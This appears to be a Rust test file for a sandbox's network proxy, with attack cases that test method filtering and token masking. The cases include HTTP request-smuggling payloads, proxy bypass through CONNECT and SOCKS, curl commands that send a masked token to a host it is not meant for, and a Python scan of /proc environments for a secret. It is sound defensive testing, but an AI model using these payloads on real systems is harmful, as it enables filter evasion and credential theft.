//! W, with the proxy looking into requests: which methods pass, and variables whose values stay
//! outside.
//!
//! Each attack first runs in a sandbox with the same list of hosts and without the feature, where
//! it must succeed.

use stockade_test::case::Control;
use stockade_test::{
    Case, Flag, HostSide, Need, Sign, allowed, attack, closure, heard, host, not, prints, report,
    stdout_is,
};

pub(crate) fn cases() -> Vec<Case> {
    let mut cases = methods();
    cases.extend(masks());
    cases.extend(bad_masks());
    cases.extend(opened());
    cases
}

/// Three names of the suite's servers; `d.test` is not in their certificate.
fn listed() -> Vec<Flag> {
    let pins =
        ["a.test", "c.test", "d.test"].map(|name| Flag::Resolve(format!("{name}=127.0.0.1")));
    let ports = ["@HTTP@", "@HTTPS@", "@ECHO@"];
    let allow = |name: &'static str| ports.map(|port| Flag::Allow(format!("{name}:{port}")));
    pins.into_iter()
        .chain(allow("a.test"))
        .chain(allow("c.test"))
        .chain(allow("d.test"))
        .collect()
}

fn on_stage(case: Case) -> Case {
    case.needs(Need::Allowlist)
        .needs(Need::Tool("openssl"))
        .needs(Need::Tool("python3"))
        .needs(Need::Tool("curl"))
        .side(HostSide::Web)
        .flags(listed())
}

/// In a sandbox where only methods that ask pass; the control is one where all do.
fn read_only(id: &'static str, title: &'static str) -> Case {
    on_stage(attack(id, title))
        .flag(Flag::NetMethods("read-only".into()))
        .control(Control::Confined(listed()))
}

/// In the report, a record that is as `check` says.
fn reported(label: &'static str, check: fn(&serde_json::Value) -> bool) -> Sign {
    closure(label, move |scene| {
        let report = report::read(&scene.world.witness());
        let records = report.and_then(|report| report.get("network")?.as_array().cloned());
        records.is_some_and(|records| records.iter().any(check))
    })
}

fn methods() -> Vec<Case> {
    vec![
        read_only("W34", "methods that change something, to an allowed host")
            .flag(Flag::Report(report::FILE.into()))
            .sh("curl -sS -X POST http://a.test:@HTTP@/said
                 for m in GET HEAD OPTIONS POST PUT PATCH DELETE TRACE MKCOL ANY get; do
                 i=; test $m != HEAD || i=-I
                 curl -sS $i -o /dev/null -w \"$m %{http_code}\\n\" -X $m http://a.test:@HTTP@/$m; done")
            .leak(heard("request POST /POST "))
            .leak(heard("request PUT "))
            .leak(heard("request PATCH "))
            .leak(heard("request DELETE "))
            .leak(heard("request TRACE "))
            .leak(heard("request MKCOL "))
            .leak(heard("request ANY "))
            .leak(heard("request get "))
            .boxed(heard("request GET "))
            .boxed(heard("request HEAD "))
            .boxed(heard("request OPTIONS "))
            .boxed(prints("a.test:@HTTP@ is blocked: the method `POST` is none of GET, HEAD, OPTIONS"))
            .boxed(prints("rule: methods read-only"))
            .boxed(prints("allow with: --net-methods any"))
            .boxed(prints(
                "GET 200\nHEAD 200\nOPTIONS 200\nPOST 403\nPUT 403\nPATCH 403\nDELETE 403\nTRACE 403\nMKCOL 403\nANY 403\nget 403",
            ))
            .boxed(reported("a refused method with its grant", |record| {
                record["host"] == "a.test"
                    && record["allowed"] == false
                    && record["protocol"] == "http"
                    && record["rule"] == "methods read-only"
                    && record["reason"].as_str().is_some_and(|reason| reason.contains("`POST`"))
                    && record["grant"] == "--net-methods any"
            })),
        read_only("W34b", "the same by a client that knows of no proxy, by CONNECT and by SOCKS")
            .sh("curl -sS --noproxy '*' -d x http://a.test:@HTTP@/free; curl -sS -p -d x http://a.test:@HTTP@/tunnel
                 curl -sS --proxy $ALL_PROXY -d x http://a.test:@HTTP@/socks
                 curl -6 -sS --noproxy '*' -d x http://a.test:@HTTP@/six
                 curl -sS --noproxy '*' http://a.test:@HTTP@/asked && curl -sS -p http://a.test:@HTTP@/asked \
                 && curl -sS --proxy $ALL_PROXY http://a.test:@HTTP@/asked")
            .leak(heard("POST /free"))
            .leak(heard("POST /tunnel"))
            .leak(heard("POST /socks"))
            .leak(heard("POST /six"))
            .boxed(prints("hello GET 0\nhello GET 0\nhello GET 0")),
        read_only("W34c", "another method behind one that passes, on the same connection")
            .python(
                "
def talk(text):
    s = socket.create_connection(('a.test', @HTTP@), 60); s.settimeout(60)
    s.sendall(text.replace('\\n', '\\r\\n').encode())
    got = b''
    try:
        while piece := s.recv(65536):
            got += piece
    except OSError:
        pass
    print([line.split()[1] for line in got.decode().splitlines() if line.startswith('HTTP/1.1')])
host = 'Host: a.test:@HTTP@\\n'
talk('GET /1 HTTP/1.1\\n' + host + '\\nPOST /pipelined HTTP/1.1\\n' + host + 'Content-Length: 0\\nConnection: close\\n\\n')
talk('GET /3 HTTP/1.1\\n' + host + 'Transfer-Encoding: chunked\\n\\n0\\n\\nPOST /chunked HTTP/1.1\\n' + host + 'Content-Length: 0\\nConnection: close\\n\\n')
talk('GET /2 HTTP/1.1\\n' + host + 'Transfer-Encoding: chunked\\nContent-Length: 4\\n\\n0\\n\\nPOST /smuggled HTTP/1.1\\n' + host + 'Content-Length: 0\\nConnection: close\\n\\n')
talk('\\n\\nPOST /late HTTP/1.1\\n' + host + 'Content-Length: 0\\nConnection: close\\n\\n')
talk('POST http://a.test:@HTTP@/absolute HTTP/1.0\\n' + host + 'Content-Length: 0\\n\\n')
s = socket.create_connection(('a.test', @HTTP@), 60); s.settimeout(60); f = s.makefile('rb')
def ask(method):
    s.sendall(f'{method} /kept HTTP/1.1\\r\\nHost: a.test:@HTTP@\\r\\nContent-Length: 0\\r\\n\\r\\n'.encode())
    status = f.readline().split()[1].decode(); length = 0
    while (line := f.readline().strip()):
        if line.lower().startswith(b'content-length:'): length = int(line.split()[1])
    f.read(length); return status
print(ask('GET'), ask('GET'), ask('PUT'), ask('GET'))",
            )
            .leak(heard("POST /pipelined"))
            .leak(heard("POST /chunked"))
            .boxed(not(heard("/smuggled")))
            .leak(heard("POST /late"))
            .leak(heard("/absolute"))
            .leak(heard("PUT /kept"))
            .boxed(prints("['200', '403']"))
            .boxed(prints("200 200 403 200")),
        read_only("W34d", "another method in a header that frameworks obey")
            .sh("curl -sS -H 'X-HTTP-Method-Override: DELETE' http://a.test:@HTTP@/over")
            .leak(heard("X-HTTP-Method-Override: DELETE"))
            .boxed(prints("`DELETE`")),
        read_only("W34e", "out of HTTP by an upgrade")
            .python(
                "
for target in ('a.test', None):
    where = (target, @HTTP@) if target else tuple(os.environ['http_proxy'].split('/')[2].split(':'))
    s = socket.create_connection(where, 60); s.settimeout(60)
    path = '/upgrade' if target else 'http://a.test:@HTTP@/upgrade'
    s.sendall(f'GET {path} HTTP/1.1\\r\\nHost: a.test:@HTTP@\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n'.encode())
    print(s.recv(65536).decode().split()[1])
    s.sendall(b'anything\\n'); s.shutdown(socket.SHUT_WR)
    try:
        while s.recv(65536): pass
    except OSError:
        pass",
            )
            .leak(heard("upgraded anything"))
            .leak(prints("101"))
            .boxed(stdout_is("403\n403")),
        read_only("W34f", "what is no HTTP, on allowed ports")
            .python(
                "
def dial(text):
    s = socket.create_connection(('a.test', @ECHO@), 60); s.settimeout(60)
    s.sendall(text); return s.recv(100)
trying('raw', lambda: print('got', dial(b'raw bytes')))
trying('old', lambda: print('got', dial(b'POST /zero-nine\\r\\n')))
trying('two', lambda: print('got', dial(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')))
p = socket.create_connection(tuple(os.environ['http_proxy'].split('/')[2].split(':')), 60); p.settimeout(60)
p.sendall(b'CONNECT a.test:@ECHO@ HTTP/1.1\\r\\nHost: a.test:@ECHO@\\r\\n\\r\\n'); p.recv(100); p.sendall(b'tunnelled')
trying('tunnel', lambda: print('got', p.recv(100)))",
            )
            .flag(Flag::Report(report::FILE.into()))
            .control(Control::Confined(
                listed().into_iter().chain([Flag::HiddenNames]).collect(),
            ))
            .leak(heard("echo got b'raw bytes'"))
            .leak(heard("echo got b'POST /zero-nine"))
            .leak(heard("echo got b'PRI"))
            .leak(heard("echo got b'tunnelled'"))
            .boxed(reported("what shows no method is refused by name", |record| {
                record["allowed"] == false
                    && record["rule"] == "methods read-only"
                    && record["reason"].as_str().is_some_and(|reason| reason.contains("other than HTTP"))
            })),
    ]
}

const TOKEN: (&str, &str) = ("TOKEN", "real-@SECRET@-value");

/// In a sandbox where the token is masked for `a.test`; the control has it as it is.
fn masked(id: &'static str, title: &'static str) -> Case {
    let open = [listed(), vec![Flag::KeepEnv(TOKEN.0.into())]].concat();
    on_stage(attack(id, title))
        .env(TOKEN.0, TOKEN.1)
        .flag(Flag::Mask("TOKEN=a.test".into()))
        .control(Control::Confined(open))
}

fn masks() -> Vec<Case> {
    vec![
        masked("W35", "a token, and a host that it is not for")
            .sh("echo \"inside $TOKEN\"; curl -sS -H \"Authorization: Bearer $TOKEN\" http://a.test:@HTTP@/bearer
                 curl -sS -u \"me:$TOKEN\" http://a.test:@HTTP@/basic; curl -sS --noproxy '*' -H \"X-Token: <$TOKEN>\" http://a.test:@HTTP@/free
                 curl -sS -p -H \"X-Token: $TOKEN\" http://a.test:@HTTP@/tunnel
                 curl -sS -H \"X-Token: $TOKEN\" http://c.test:@HTTP@/other; curl -sS -u \"me:$TOKEN\" http://c.test:@HTTP@/other")
            .leak(prints("inside real-@SECRET@-value"))
            .leak(heard("header /other X-Token: real-@SECRET@-value"))
            .leak(heard("header /other Authorization: Basic me:real-@SECRET@-value"))
            .works(heard("header /bearer Authorization: Bearer real-@SECRET@-value"))
            .works(heard("header /basic Authorization: Basic me:real-@SECRET@-value"))
            .works(heard("header /free X-Token: <real-@SECRET@-value>"))
            .works(heard("header /tunnel X-Token: real-@SECRET@-value"))
            .boxed(heard("header /other X-Token: ")),
        masked("W35b", "the value of a masked variable, anywhere inside")
            .flag(Flag::Report(report::FILE.into()))
            .python(
                "
import glob
secret = '@SECRET@'[::-1][::-1].encode()
for name in glob.glob('/proc/[0-9]*/*') + glob.glob('/proc/[0-9]*/task/*/environ') + glob.glob('/dev/shm/*') + glob.glob('/tmp/*'):
    # Its own script has the word in it.
    if name.endswith(('/cmdline', '/mem', '/clear_refs', '/task', '/maps')): continue
    try:
        data = open(name, 'rb').read(1 << 20)
    except OSError:
        continue
    if b'real-' + secret in data: print('found in', name.split('/')[-1])
print('looked', os.environ['TOKEN'] != '')",
            )
            .leak(prints("found in environ"))
            .works(prints("looked True"))
            .boxed(closure("neither report nor messages have the value", |scene| {
                let value = scene.world.expand(TOKEN.1);
                let report = std::fs::read_to_string(scene.world.witness().join(report::FILE));
                !report.unwrap_or_default().contains(&value)
                    && scene.outcomes.iter().all(|outcome| !outcome.err().contains(&value))
            })),
        masked("W35c", "a host that sends back what it got")
            .sh("curl -sSi -H \"X-Token: $TOKEN\" http://a.test:@HTTP@/echo; curl -sSi --compressed -u \"me:$TOKEN\" http://a.test:@HTTP@/echo")
            .leak(prints("X-Echo: X-Token: real-@SECRET@-value"))
            .leak(prints("you sent X-Token: real-@SECRET@-value"))
            .leak(prints("you sent Authorization: Basic me:real-@SECRET@-value"))
            .works(heard("header /echo X-Token: real-@SECRET@-value"))
            .boxed(prints("you sent X-Token: "))
            .boxed(prints("you sent Authorization: Basic me:")),
        on_stage(allowed("W35d", "what is planned is shown without the value"))
            .env(TOKEN.0, TOKEN.1)
            .flag(Flag::Mask("TOKEN=a.test".into()))
            .cli_only("plans are the command line's")
            .control(Control::Absent("a plan is printed, nothing runs"))
            .launcher(
                "@RUN@ true; stockade=$(echo \"@RUN@\" | cut -d\"'\" -f2); echo @MARK@
                 $stockade run --dry-run --json --allow a.test --mask TOKEN=a.test -- true > @W@/plan
                 $stockade run --dry-run --allow a.test --mask TOKEN=a.test -- true >> @W@/plan
                 $stockade policy show --allow a.test --mask TOKEN=a.test --net-methods read-only
                 $stockade explain --allow a.test --mask TOKEN=a.test --net-methods read-only a.test:443",
            )
            .boxed(not(host("grep -q @SECRET@ @W@/plan")))
            .boxed(host("grep -q TOKEN= @W@/plan"))
            .boxed(prints("TOKEN=a.test"))
            .boxed(prints("methods  GET, HEAD, OPTIONS alone"))
            .boxed(prints("masked   TOKEN")),
    ]
}

/// Masks that nobody could keep: the command must not run.
fn bad_masks() -> Vec<Case> {
    let refused = |id, title| {
        on_stage(attack(id, title))
            .env(TOKEN.0, TOKEN.1)
            .leak(host("test -e @P@/ran"))
            .refused(125)
    };
    vec![
        refused("W35e", "run although a masked variable is not set")
            .flag(Flag::Mask("NOT_SET_HERE=a.test".into()))
            .sh("echo ran > @P@/ran")
            .boxed(closure("the variable is named", |scene| {
                scene.outcomes[0].err().contains("NOT_SET_HERE")
            })),
        refused(
            "W35f",
            "run although a token is masked for a host that is not listed",
        )
        .flag(Flag::Mask("TOKEN=elsewhere.test".into()))
        .sh("echo ran > @P@/ran"),
        refused(
            "W35g",
            "run although the value of a masked variable is in the command",
        )
        .flag(Flag::Mask("TOKEN=a.test".into()))
        .sh("echo ran > @P@/ran; : real-@SECRET@-value"),
        refused(
            "W35h",
            "run although another variable has the value of a masked one",
        )
        .flag(Flag::Mask("TOKEN=a.test".into()))
        .flag(Flag::Env("OTHER=prefix-real-@SECRET@-value".into()))
        .sh("echo ran > @P@/ran"),
        refused("W35i", "run with masks or methods on an open network")
            .sh("echo ran > @P@/ran")
            .with_flags([
                Flag::Net(stockade_test::Net::Open),
                Flag::Mask("TOKEN=a.test".into()),
            ]),
    ]
}

/// The launcher trusts who signed the suite's certificate. So do clients in a sandbox without the
/// feature; with it they must find what to trust by themselves.
const TRUST: &str = "for n in CURL_CA_BUNDLE SSL_CERT_FILE NODE_EXTRA_CA_CERTS GIT_SSL_CAINFO; do
                     eval \"export $n=\\${$n:-@W@/ca.pem}\"; done\n";

fn trusting(case: Case) -> Case {
    case.env("SSL_CERT_FILE", "@W@/ca.pem")
}

fn opened() -> Vec<Case> {
    vec![
        trusting(read_only("W34g", "methods that change something, in TLS"))
            .needs(Need::Tool("node"))
            .needs(Need::Tool("wget"))
            .sh(format!(
                "{TRUST}a=https://a.test:@HTTPS@
                 curl -sS -d x $a/connect; curl -sS --noproxy '*' -d x $a/free; curl -sS --proxy $ALL_PROXY -d x $a/socks
                 python3 -c 'import sys, urllib.request as u; u.urlopen(sys.argv[1] + \"/python\", b\"x\")' $a
                 fetch() {{ node -e 'fetch(process.argv[1], {{method: process.argv[2]}}).then(r => r.text()).then(t => process.stdout.write(t), e => console.log(e.cause))' $1 $2; }}
                 fetch $a/node POST
                 test -e /dev/stockade || ca=--ca-certificate=@W@/ca.pem
                 wget -q -O- $ca --post-data x $a/wget
                 curl -sS $a/ok && curl -sS --noproxy '*' $a/ok && curl -sS --proxy $ALL_PROXY $a/ok && fetch $a/ok GET && wget -q -O- $ca $a/ok \
                 && python3 -c 'import sys, urllib.request as u; print(u.urlopen(sys.argv[1] + \"/ok\").read().decode(), end=\"\")' $a"
            ))
            .flag(Flag::Report(report::FILE.into()))
            .leak(heard("POST /connect"))
            .leak(heard("POST /free"))
            .leak(heard("POST /socks"))
            .leak(heard("POST /python"))
            .leak(heard("POST /node"))
            .leak(heard("POST /wget"))
            .works(prints("hello GET 0\nhello GET 0\nhello GET 0\nhello GET 0\nhello GET 0\nhello GET 0"))
            .boxed(prints("a.test:@HTTPS@ is blocked: the method `POST`"))
            .boxed(reported("a refused method in TLS", |record| {
                record["protocol"] == "https" && record["allowed"] == false && record["grant"] == "--net-methods any"
            })),
        trusting(read_only("W34h", "what is no HTTP, in TLS"))
            .python(
                "
import ssl
ca = os.environ.get('SSL_CERT_FILE', '@W@/ca.pem')
def talk(text, alpn=None):
    context = ssl.create_default_context(cafile=ca)
    if alpn: context.set_alpn_protocols(alpn)
    s = context.wrap_socket(socket.create_connection(('a.test', @HTTPS@), 60), server_hostname='a.test')
    s.settimeout(60); s.sendall(text); return s.recv(65536)
trying('raw', lambda: talk(b'anything at all\\r\\n\\r\\n'))
trying('two', lambda: talk(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))
trying('alpn', lambda: talk(b'POST /alpn HTTP/1.1\\r\\nHost: a.test:@HTTPS@\\r\\nContent-Length: 0\\r\\n\\r\\n', ['h2']))
print(talk(b'GET /good HTTP/1.1\\r\\nHost: a.test:@HTTPS@\\r\\n\\r\\n', ['h2', 'http/1.1'])[:12])",
            )
            .leak(heard("bad b'anything"))
            .leak(heard("bad b'PRI"))
            .leak(heard("POST /alpn"))
            .works(prints("b'HTTP/1.1 200'")),
        read_only("W34i", "a host that this machine does not trust, by a client that trusts everybody")
            .sh("curl -sSk https://a.test:@HTTPS@/leak")
            .leak(heard("/leak"))
            .boxed(prints("no TLS with a.test:@HTTPS@ that can be trusted: invalid peer certificate")),
        trusting(read_only("W34j", "a host whose certificate has another name"))
            .sh("curl -sSk https://d.test:@HTTPS@/leak -w '%{http_code}'")
            .leak(heard("/leak"))
            .boxed(prints("502"))
            .boxed(prints("not valid for name")),
        on_stage(allowed("W34k", "without either, TLS is not opened and nothing is set"))
            .control(Control::Absent("there is nothing to be kept out"))
            .sh("echo \"${SSL_CERT_FILE:-none}\"; ls /dev/stockade 2> /dev/null || echo nothing
                 echo | openssl s_client -connect a.test:@HTTPS@ -servername a.test 2> /dev/null | grep -o 'issuer=.*'")
            .boxed(stdout_is("none\nnothing\nissuer=CN = authority of the suite")),
        trusting(on_stage(allowed("W34l", "the same from the proxy by itself")))
            .env(TOKEN.0, TOKEN.1)
            .side(HostSide::FreePort)
            .control(Control::Absent("the proxy is the control of nobody"))
            .cli_only("a launcher of its own")
            .launcher(
                "stockade=$(echo \"@RUN@\" | cut -d\"'\" -f2); echo @MARK@
                 $stockade proxy --listen 127.0.0.1:@FREE@ --allow a.test:@HTTP@ --allow a.test:@HTTPS@ --resolve a.test=127.0.0.1 --net-methods read-only \
                 --mask TOKEN=a.test --trust-file @W@/trust.pem --log @W@/proxy.log > @W@/said & pid=$!
                 for i in $(seq 600); do grep -q ^https_proxy @W@/said && break; sleep 0.1; done
                 export $(grep -E '^(TOKEN|http_proxy|https_proxy|CURL_CA_BUNDLE)=' @W@/said)
                 curl -sS -H \"X-Token: $TOKEN\" https://a.test:@HTTPS@/tls; curl -sS -H \"X-Token: $TOKEN\" http://a.test:@HTTP@/plain
                 for u in https://a.test:@HTTPS@ http://a.test:@HTTP@; do curl -sS -o /dev/null -w '%{http_code}\\n' -X DELETE $u/changed; done
                 kill $pid; wait $pid 2> /dev/null; true",
            )
            .boxed(prints("hello GET 0\nhello GET 0\n403\n403"))
            .boxed(heard("header /tls X-Token: real-@SECRET@-value"))
            .boxed(heard("header /plain X-Token: real-@SECRET@-value"))
            .boxed(not(heard("/changed")))
            .boxed(not(host("grep -q @SECRET@ @W@/said @W@/proxy.log @W@/trust.pem"))),
        trusting(masked("W35j", "a token in TLS, and a host that it is not for"))
            .needs(Need::Tool("node"))
            .needs(Need::Tool("git"))
            .sh(format!(
                "{TRUST}a=https://a.test:@HTTPS@ c=https://c.test:@HTTPS@
                 curl -sS -H \"X-Token: $TOKEN\" $a/curl; curl -sS --noproxy '*' -u \"me:$TOKEN\" $a/basic
                 python3 -c 'import os, sys, urllib.request as u; u.urlopen(u.Request(sys.argv[1] + \"/python\", headers={{\"X-Token\": os.environ[\"TOKEN\"]}}))' $a
                 node -e 'fetch(process.argv[1] + \"/node\", {{headers: {{\"X-Token\": process.env.TOKEN}}}}).then(r => r.text())' $a
                 git -c http.extraHeader=\"Authorization: Bearer $TOKEN\" ls-remote $a/repo 2> /dev/null
                 curl -sS -d \"$TOKEN\" -H \"X-Token: $TOKEN\" $c/other; curl -sSi -H \"X-Token: $TOKEN\" $a/echo
                 for h in a c; do echo | openssl s_client -connect $h.test:@HTTPS@ -servername $h.test 2> /dev/null | grep -o 'issuer=.*'; done"
            ))
            .leak(heard("header /other X-Token: real-@SECRET@-value"))
            .leak(prints("X-Echo: X-Token: real-@SECRET@-value"))
            .leak(prints("you sent X-Token: real-@SECRET@-value"))
            .works(heard("header /curl X-Token: real-@SECRET@-value"))
            .works(heard("header /basic Authorization: Basic me:real-@SECRET@-value"))
            .works(heard("header /python X-Token: real-@SECRET@-value"))
            .works(heard("header /node X-Token: real-@SECRET@-value"))
            .works(heard("header /repo/info/refs?service=git-upload-pack Authorization: Bearer real-@SECRET@-value"))
            .works(heard("header /other X-Token: "))
            .boxed(prints("issuer=CN = \"Stockade, for one run\"\nissuer=CN = authority of the suite")),
        trusting(masked("W35k", "a token for a host that this machine does not trust"))
            .sh("curl -sSk -H \"X-Token: $TOKEN\" https://a.test:@HTTPS@/leak")
            .env("SSL_CERT_FILE", "/etc/ssl/certs/ca-certificates.crt")
            .leak(heard("header /leak X-Token: real-@SECRET@-value"))
            .boxed(prints("that can be trusted")),
        trusting(on_stage(allowed("W35l", "another protocol, by an upgrade in TLS that is opened")))
            .env(TOKEN.0, TOKEN.1)
            .flag(Flag::Mask("TOKEN=a.test".into()))
            .control(Control::Absent("the name exists inside alone"))
            .python(
                "
import ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(('a.test', @HTTPS@), 60), server_hostname='a.test')
s.sendall(b'GET /upgrade HTTP/1.1\\r\\nHost: a.test:@HTTPS@\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n')
print(s.recv(65536).decode().split()[1]); s.sendall(b'anything\\n'); print(s.recv(100).decode())",
            )
            .boxed(stdout_is("101\nanything"))
            .boxed(heard("upgraded anything")),
        trusting(on_stage(allowed("W35m", "the certificates inside can't be changed")))
            .env(TOKEN.0, TOKEN.1)
            .flag(Flag::Mask("TOKEN=a.test".into()))
            .control(Control::Absent("the file exists inside alone"))
            .sh("f=$SSL_CERT_FILE; cp $f copy; (echo x > $f) 2> /dev/null; rm -f $f 2> /dev/null; mv copy $f 2> /dev/null; chmod 666 $f 2> /dev/null
                 cmp copy $f && stat -c %a $f && curl -sS https://a.test:@HTTPS@/ && grep -c 'PRIVATE KEY' $f")
            .boxed(stdout_is("444\nhello GET 0\n0")),
    ]
}
